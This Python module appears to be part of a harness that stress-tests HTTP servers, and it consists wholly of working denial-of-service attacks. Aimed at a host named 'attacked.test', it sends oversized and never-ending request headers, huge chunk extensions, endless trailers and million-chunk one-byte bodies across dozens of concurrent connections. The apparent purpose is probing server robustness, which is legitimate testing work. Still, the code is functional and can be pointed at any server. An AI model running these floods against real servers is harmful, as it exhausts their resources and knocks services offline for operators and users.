"""Messages without measure: heads, fields, chunk extensions, trailers, chunks."""
import itertools

from . import Attack
from .field import Crowd

START = b"GET /echo/large HTTP/1.1\r\nHost: attacked.test\r\n"
CHUNKED = b"POST /mirror HTTP/1.1\r\nHost: attacked.test\r\nTransfer-Encoding: chunked\r\n\r\n"
CONNECTIONS = 100


def header_bomb(field, tally):
    """In turn: just below 64 KiB, one field of more, 101 fields, ten thousand, and a head that never ends."""
    filler = b"X-Filler: " + b"a" * 1000 + b"\r\n"
    below = START + filler * 63 + b"\r\n"
    above = START + b"X-Long: " + b"a" * 70_000 + b"\r\n\r\n"
    many = START + b"".join(b"X-%d: a\r\n" % n for n in range(101)) + b"\r\n"
    very_many = START + b"".join(b"X-%d: a\r\n" % n for n in range(10_000)) + b"\r\n"
    kinds = itertools.cycle(range(5))

    def script():
        kind = next(kinds)
        if kind < 4:
            yield (below, above, many, very_many)[kind]
            return
        yield START
        while True:
            yield filler

    def again(member):
        if member.answer:
            crowd.drop(member)

    with Crowd(field.http, CONNECTIONS, tally, script) as crowd:
        crowd.run(field, again, every=0.1)


def chunk_extensions(field, tally):
    def one_line():
        yield CHUNKED + b"1"
        while True:
            yield b";name=value" * 100

    def many_lines():
        yield CHUNKED
        while True:
            yield b"1;name=" + b"a" * 900 + b"\r\nx\r\n"

    kinds = itertools.cycle([one_line, many_lines])
    with Crowd(field.http, CONNECTIONS, tally, lambda: next(kinds)()) as crowd:
        crowd.run(field)


def endless_trailers(field, tally):
    def script():
        yield CHUNKED + b"1\r\nx\r\n0\r\n"
        while True:
            yield b"X-Trailer: " + b"a" * 100 + b"\r\n"

    with Crowd(field.http, CONNECTIONS, tally, script) as crowd:
        crowd.run(field)


def one_byte_chunks(field, tally):
    """Bodies of a million chunks each, and as many more connections as fit."""
    burst = b"1\r\nx\r\n" * 2000

    def script():
        yield CHUNKED.replace(b"/mirror", b"/sink")
        for _ in range(500):
            yield burst
        yield b"0\r\n\r\n"

    with Crowd(field.http, 20, tally, script) as crowd:
        crowd.run(field)
    tally.add("chunks", tally.counts["bytes"] // 6)


ATTACKS = [
    Attack("header-bomb", "header bombs: 64 KiB, 100+ fields, no end", header_bomb),
    Attack("chunk-extensions", "huge chunk extensions", chunk_extensions),
    Attack("trailers", "endless trailers", endless_trailers),
    Attack("one-byte-chunks", "chunks of one byte", one_byte_chunks),
]
